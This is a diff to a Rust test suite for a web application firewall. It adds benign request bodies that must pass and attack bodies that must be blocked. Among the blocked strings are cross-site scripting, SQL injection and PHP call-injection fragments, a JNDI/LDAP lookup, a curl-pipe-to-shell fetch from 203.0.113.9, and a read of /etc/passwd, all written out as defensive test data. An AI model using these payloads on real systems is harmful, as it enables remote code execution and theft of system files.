@@ -749,6 +749,12 @@ fn holdout4_shapes_pass_and_their_attacks_still_score() {
         r##"{"msg": "{count, plural, one {# article} other {# articles}}"}"##,
         r##"{"msg": "<-- HTTP FAILED: java.net.SocketTimeoutException: timeout"}"##,
         r##"{"trace": "java.lang.IllegalStateException: not attached\n\tat androidx.fragment.app.Fragment.requireContext(Fragment.java:972)"}"##,
+        // An address in angle brackets; an arrow in a note; LaTeX; a PowerShell script that sets
+        // variables first.
+        r##"{"html": "<div dir=\"ltr\">On Mon Tom &lt;tom@example.net&gt; wrote:<br></div>"}"##,
+        r##"{"note": "Customer asked: \"can you ship to P.O. Box 1234?\" -> yes, via USPS only"}"##,
+        r##"{"source": "The posterior is $p(\\theta \\mid x)$ for $n > 30$."}"##,
+        r##"{"content": "$src = 'C:\\Users\\jdoe'\n$dst = \"D:\\Backups\\$(Get-Date -Format yyyy-MM-dd)\"\nNew-Item -ItemType Directory -Path $dst -Force | Out-Null\n"}"##,
     ] {
         let o = json_post(&waf, body);
         assert!(!o.blocked, "{body}: {o:?}");
@@ -766,6 +772,14 @@ fn holdout4_shapes_pass_and_their_attacks_still_score() {
         r##"{"q": "java.lang.Runtime.getRuntime().exec('id')"}"##,
         r##"{"q": "java.io.IOException ${jndi:ldap://203.0.113.9/a}"}"##,
         r##"{"q": "java.net.URLClassLoader"}"##,
+        r##"{"q": "<a href=x onclick=alert(1)>tom@example.net</a>"}"##,
+        r##"{"q": "x<tom@example.net><img src=x onerror=alert(1)>"}"##,
+        r##"{"q": "1' ->'a'"}"##,
+        r##"{"q": "x\"->>'key' union select 1"}"##,
+        r##"{"q": "$_GET[a]($_GET[b])"}"##,
+        r##"{"q": "$f('id')"}"##,
+        r##"{"content": "$x = 1\n$y = $(curl http://203.0.113.9/a.sh | sh)\n"}"##,
+        r##"{"content": "a=1\ncat /etc/passwd\n"}"##,
     ] {
         let o = json_post(&waf, body);
         assert!(o.blocked, "{body}: {o:?}");
